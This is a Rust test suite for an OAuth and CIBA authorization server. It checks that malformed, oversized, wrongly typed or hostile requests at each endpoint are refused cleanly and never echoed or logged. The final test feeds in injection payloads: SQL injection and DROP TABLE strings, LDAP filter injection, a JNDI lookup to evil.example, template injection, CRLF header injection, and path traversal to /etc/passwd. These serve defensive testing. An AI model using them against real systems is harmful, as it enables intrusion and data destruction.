//! Malformed, oversized, repeated, hostile: whatever comes in, at whichever endpoint, the answer has
//! that endpoint's form and the right status, nothing changes, one event is recorded, and nothing of
//! the input is to be found in the answer or in the log.

use nod::domain::client::GrantType;
use reqwest::{Method, RequestBuilder};

use crate::world::{
    Answer, BC_AUTHORIZE, CALLBACK, CIBA, Client, DISCOVERY, INTROSPECT, JWKS, PAR, Person, REVOKE, TOKEN, USERINFO,
    World, basic, enc,
};

mod devices;
mod echoes;
mod heads;
mod scopes;
mod texts;

const DEVICE_AUTHORIZATION: &str = "/as/device_authz.oauth2";

/// In every hostile value; it must not come back.
const MARK: &str = "zzMARKzz";

/// What an endpoint's errors look like.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Form {
    OAuth,
    Device,
}

struct Scene {
    world: World,
    shop: Client,
    alice: Person,
}

async fn scene() -> Scene {
    let world = World::with().generous().settings(|settings| settings.failed_authentications = 10_000).start().await;
    world.guard(MARK);
    let grants = [GrantType::AuthorizationCode, GrantType::RefreshToken, GrantType::DeviceCode, GrantType::Ciba];
    let shop = world.client("shop").signs_in().grants(grants).await;
    let alice = world.user("alice").with_phone().await;
    Scene { world, shop, alice }
}

impl Scene {
    async fn refuses(&self, request: RequestBuilder, form: Form, status: u16, what: &str) {
        let watch = self.world.watch().await;
        let answer = Answer::of(request).await;
        assert_eq!(answer.status, status, "{what}: {}", answer.text());
        match form {
            Form::OAuth if status == 401 => answer.refused(status, "invalid_client"),
            Form::OAuth => answer.refused(status, "invalid_request"),
            Form::Device if status == 401 => {
                let code = answer.json()["code"].as_str().unwrap_or_default().to_owned();
                answer.problem(status, &code)
            }
            Form::Device => answer.problem(status, "INVALID_REQUEST"),
        };
        assert!(!answer.text().contains(MARK), "{what} is echoed: {}", answer.text());
        for value in answer.headers.values() {
            assert!(!String::from_utf8_lossy(value.as_bytes()).contains(MARK), "{what} is echoed in {value:?}");
        }
        watch.only_a_refusal(what).await;
    }

    /// A form as the shop, with any bytes.
    fn raw(&self, path: &str, body: impl Into<Vec<u8>>) -> RequestBuilder {
        self.world
            .request(Method::POST, path)
            .header("authorization", basic(&self.shop.id, self.shop.secret()))
            .body(body.into())
    }

    fn form(&self, path: &str, body: impl Into<Vec<u8>>) -> RequestBuilder {
        self.raw(path, body).header("content-type", "application/x-www-form-urlencoded")
    }

    /// At the end of it all, somebody with good manners is served.
    async fn still_works(&self) {
        let asked = self.shop.ask(&self.alice).await;
        self.alice.phone().approve_the_question().await;
        self.shop.poll(&asked).await.tokens();
    }
}

/// The endpoints that take forms, each with a form that would be good.
fn form_endpoints() -> [(&'static str, String); 7] {
    [
        (TOKEN, enc(&[("grant_type", CIBA), ("auth_req_id", "x")])),
        (TOKEN, enc(&[("grant_type", "refresh_token"), ("refresh_token", "x")])),
        (BC_AUTHORIZE, enc(&[("scope", "openid"), ("login_hint", "alice")])),
        (PAR, enc(&[("response_type", "code"), ("redirect_uri", CALLBACK), ("scope", "openid")])),
        (DEVICE_AUTHORIZATION, enc(&[("scope", "openid")])),
        (REVOKE, enc(&[("token", "x")])),
        (INTROSPECT, enc(&[("token", "x")])),
    ]
}

#[tokio::test]
async fn forms_are_read_strictly_at_every_endpoint() {
    let scene = scene().await;
    for (path, good) in form_endpoints() {
        let with = |more: &[u8]| [good.as_bytes(), b"&", more].concat();
        let many = |n: usize| (0..n).map(|i| format!("p{i}={MARK}")).collect::<Vec<_>>().join("&");
        let first = good.split('&').next().unwrap().to_owned();
        let bodies: Vec<(&str, Vec<u8>)> = vec![
            ("a repeated parameter", with(first.as_bytes())),
            ("a repeated unknown one", with(format!("x={MARK}&x={MARK}").as_bytes())),
            ("one repeated without a value", with(format!("x={MARK}&x").as_bytes())),
            ("one repeated in another spelling", with(format!("xy={MARK}&%78y=1").as_bytes())),
            ("a NUL", with(format!("x={MARK}%00").as_bytes())),
            ("a raw NUL", with(format!("x={MARK}\0").as_bytes())),
            ("a NUL in a name", with(format!("{MARK}%00=1").as_bytes())),
            ("bytes that are no UTF-8", with(&[format!("x={MARK}").as_bytes(), b"\xff\xfe"].concat())),
            ("encoded bytes that are none", with(format!("x={MARK}%c0%af").as_bytes())),
            ("a lone surrogate", with(format!("x={MARK}%ED%A0%80").as_bytes())),
            ("half an escape", with(format!("x={MARK}%4").as_bytes())),
            ("no escape", with(format!("x={MARK}%zz").as_bytes())),
            ("no name", with(format!("={MARK}").as_bytes())),
            ("a long name", with(format!("{MARK}{}=1", "n".repeat(64)).as_bytes())),
            ("a long value", with(format!("x={MARK}{}", "v".repeat(2048)).as_bytes())),
            ("65 fields", many(65).into_bytes()),
            ("5000 fields", many(5000).into_bytes()[..60_000].to_vec()),
        ];
        for (what, body) in bodies {
            scene.refuses(scene.form(path, body), Form::OAuth, 400, &format!("{what} at {path}")).await;
        }
        for (name, longest) in
            [("client_id", 100), ("scope", 300), ("login_hint", 255), ("auth_req_id", 128), ("client_assertion", 4000)]
        {
            if !good.contains(name) {
                let body = with(format!("{name}={MARK}{}", "v".repeat(longest)).as_bytes());
                scene.refuses(scene.form(path, body), Form::OAuth, 400, &format!("a long {name} at {path}")).await;
            }
        }
    }
    scene.still_works().await;
}

#[tokio::test]
async fn bodies_are_bounded_and_of_the_right_type_at_every_endpoint() {
    let scene = scene().await;
    for (path, good) in form_endpoints() {
        let what = |text: &str| format!("{text} at {path}");
        for (text, content_type) in [
            ("JSON", "application/json"),
            ("text", "text/plain"),
            ("a multipart form", "multipart/form-data; boundary=x"),
            ("another charset", "application/x-www-form-urlencoded; charset=utf-16"),
            ("an empty type", ""),
            ("a longer type", "application/x-www-form-urlencoded-too"),
            ("a second parameter", "application/x-www-form-urlencoded; charset=utf-8; x=y"),
        ] {
            let request = scene.raw(path, good.clone()).header("content-type", content_type);
            scene.refuses(request, Form::OAuth, 400, &what(text)).await;
        }
        scene.refuses(scene.raw(path, good.clone()), Form::OAuth, 400, &what("no type")).await;
        let twice = scene.form(path, good.clone()).header("content-type", "application/x-www-form-urlencoded");
        scene.refuses(twice, Form::OAuth, 400, &what("two types")).await;
        for encoding in ["gzip", "br", "identity", "deflate", "x"] {
            let request = scene.form(path, good.clone()).header("content-encoding", encoding);
            scene.refuses(request, Form::OAuth, 415, &what(encoding)).await;
        }
        for size in [64 * 1024 + 1, 65 * 1024, 1024 * 1024] {
            let body = format!("{good}&x={}", MARK.repeat(size / 8 + 1));
            scene.refuses(scene.form(path, body), Form::OAuth, 413, &what("a large body")).await;
        }
        // The usual spellings are all fine.
        for content_type in
            ["application/x-www-form-urlencoded; charset=UTF-8", "Application/X-WWW-Form-Urlencoded;charset=\"utf-8\""]
        {
            let answer = Answer::of(scene.raw(path, good.clone()).header("content-type", content_type)).await;
            assert!(answer.status < 300 || answer.json()["error"] == "invalid_grant", "{}", answer.text());
            if path == BC_AUTHORIZE {
                scene.shop.revoke(answer.json()["auth_req_id"].as_str().unwrap(), None).await;
            }
        }
    }
    scene.still_works().await;
}

#[tokio::test]
async fn parameters_do_not_come_in_the_query() {
    let scene = scene().await;
    for (path, good) in form_endpoints() {
        if path == DEVICE_AUTHORIZATION {
            // Nothing has to be there: what would be refused is not even looked at.
            Answer::of(scene.form(&format!("{path}?scope={MARK}&scope={MARK}"), good.clone())).await.ok();
        } else {
            let request = scene.form(&format!("{path}?{good}&x={MARK}"), "");
            scene.refuses(request, Form::OAuth, 400, &format!("a query at {path}")).await;
        }
        // Credentials there are none, and do not get into the log either.
        scene.world.guard(scene.shop.secret());
        let query = enc(&[("client_id", "shop"), ("client_secret", scene.shop.secret())]);
        let request = scene.world.request(Method::POST, &format!("{path}?{query}"));
        let request = request.header("content-type", "application/x-www-form-urlencoded").body(good);
        scene.refuses(request, Form::OAuth, 401, &format!("credentials in the query at {path}")).await;
    }
    scene.still_works().await;
}

#[tokio::test]
async fn other_methods_are_refused_at_every_endpoint() {
    let scene = scene().await;
    let id = "00000000-0000-4000-8000-000000000000";
    let device = |path: &str| format!("/device/v1{path}");
    let endpoints = [
        (TOKEN.to_owned(), "POST", Form::OAuth),
        (BC_AUTHORIZE.to_owned(), "POST", Form::OAuth),
        (PAR.to_owned(), "POST", Form::OAuth),
        (DEVICE_AUTHORIZATION.to_owned(), "POST", Form::OAuth),
        (REVOKE.to_owned(), "POST", Form::OAuth),
        (INTROSPECT.to_owned(), "POST", Form::OAuth),
        (USERINFO.to_owned(), "GET, POST", Form::OAuth),
        (device("/pairings"), "POST", Form::Device),
        (device("/notifications/pending"), "GET", Form::Device),
        (device(&format!("/notifications/{id}")), "GET", Form::Device),
        (device(&format!("/notifications/{id}/approve")), "POST", Form::Device),
        (device(&format!("/notifications/{id}/deny")), "POST", Form::Device),
        (device(&format!("/notifications/{id}/ack")), "POST", Form::Device),
        (device("/events"), "GET", Form::Device),
        (device("/me"), "GET", Form::Device),
        (device("/keys/rotate"), "POST", Form::Device),
        (device("/push-token"), "PUT, DELETE", Form::Device),
        (device("/push-enabled"), "PUT", Form::Device),
        (device("/test-push"), "POST", Form::Device),
        (device("/logs"), "POST", Form::Device),
        (device(&format!("/devices/{id}")), "DELETE", Form::Device),
    ];
    for (path, allowed, form) in endpoints {
        for method in ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "zzMARKzz"] {
            if allowed.contains(method) {
                continue;
            }
            let method = Method::from_bytes(method.as_bytes()).unwrap();
            let what = format!("{method} {path}");
            scene.refuses(scene.world.request(method.clone(), &path).body("x"), form, 405, &what).await;
            let answer = Answer::of(scene.world.request(method, &path)).await;
            assert_eq!(answer.header("allow"), Some(allowed), "{what}");
        }
    }
    for path in [DISCOVERY, JWKS] {
        let answer = Answer::of(scene.world.request(Method::DELETE, path)).await;
        answer.refused(405, "invalid_request");
    }
    // Whoever is there is a browser.
    let answer = Answer::of(scene.world.request(Method::DELETE, "/as/authorization.oauth2")).await;
    assert_eq!((answer.status, answer.header("allow")), (405, Some("GET, POST")));
    assert!(answer.header("content-type").unwrap().starts_with("text/html"));
    scene.still_works().await;
}

#[tokio::test]
async fn rfc9110_9_3_2_head_is_get_without_a_body() {
    let scene = scene().await;
    for path in [DISCOVERY, JWKS] {
        let answer = Answer::of(scene.world.request(Method::HEAD, path)).await;
        assert_eq!((answer.status, answer.body.len()), (200, 0), "{path}");
    }
}

#[tokio::test]
async fn an_address_that_is_not_there_is_not_there() {
    let scene = scene().await;
    for (path, form) in [
        ("/zzMARKzz", Form::OAuth),
        ("/as", Form::OAuth),
        ("/as/", Form::OAuth),
        ("/as/token.oauth2/", Form::OAuth),
        ("/as//token.oauth2", Form::OAuth),
        ("/AS/TOKEN.OAUTH2", Form::OAuth),
        ("/as/token.oauth2;x=y", Form::OAuth),
        ("/as/token.oauth2%00", Form::OAuth),
        ("/as/token.oauth2%2f", Form::OAuth),
        ("/%2e%2e/%2e%2e/etc/passwd", Form::OAuth),
        ("/as/../pf/JWKS", Form::OAuth),
        ("/device/v1/zzMARKzz", Form::Device),
        ("/device/v1/", Form::Device),
        ("/device/v2/me", Form::Device),
        ("/device/v1/notifications", Form::Device),
        ("/device/v1/notifications/x/y/z", Form::Device),
        ("/device/v1/me/", Form::Device),
    ] {
        for method in [Method::GET, Method::POST] {
            let watch = scene.world.watch().await;
            let request = scene.world.request(method, path);
            let request = request.header("content-type", "application/x-www-form-urlencoded").body("x=y");
            let answer = Answer::of(request).await;
            if path == "/as/../pf/JWKS" {
                // The client library has resolved it; nothing of ours.
                continue;
            }
            match form {
                Form::OAuth => answer.refused(404, "not_found"),
                Form::Device => answer.problem(404, "NOT_FOUND"),
            };
            assert!(!answer.text().contains(MARK));
            watch.nothing_changed(path).await;
        }
    }
    scene.still_works().await;
}

#[tokio::test]
async fn an_address_written_another_way_is_refused_in_the_same_words_or_not_there() {
    let scene = scene().await;
    for (path, form) in [
        ("/as/%74oken.oauth2", Form::OAuth),
        ("/%61s/bc-auth.ciba", Form::OAuth),
        ("/device/v1/%6de", Form::Device),
        ("/%64evice/v1/me", Form::Device),
        ("/device/%76%31/me", Form::Device),
    ] {
        let watch = scene.world.watch().await;
        let method = if form == Form::Device { Method::GET } else { Method::POST };
        let answer = Answer::of(scene.world.request(method, path)).await;
        if answer.status == 404 {
            watch.nothing_changed(path).await;
            continue;
        }
        match form {
            Form::OAuth => answer.refused(400, "invalid_request"),
            Form::Device => answer.problem(401, "PROOF_REQUIRED"),
        };
        watch.only_a_refusal(path).await;
    }
}

#[tokio::test]
async fn hostile_text_in_a_hint_leads_to_nobody() {
    let scene = scene().await;
    for hint in [
        "' OR '1'='1",
        "alice'; DROP TABLE account; --",
        "alice\" OR \"\"=\"",
        "*)(uid=*))(|(uid=*",
        "${jndi:ldap://evil.example/x}",
        "{{7*7}}",
        "../../etc/passwd",
        "alice\r\nX-Injected: 1",
        "\u{1b}[2J",
        "\u{feff}alice",
        "\u{ff41}lice",
        "%61lice",
    ] {
        let watch = scene.world.watch().await;
        let answer = scene.shop.bc_authorize(&[("login_hint", hint), ("scope", "openid")]).await;
        answer.refused(400, "unknown_user_id");
        watch.only_a_refusal(hint).await;
        assert!(!scene.world.log().contains(hint), "hints are not logged");
    }
    scene.still_works().await;
}
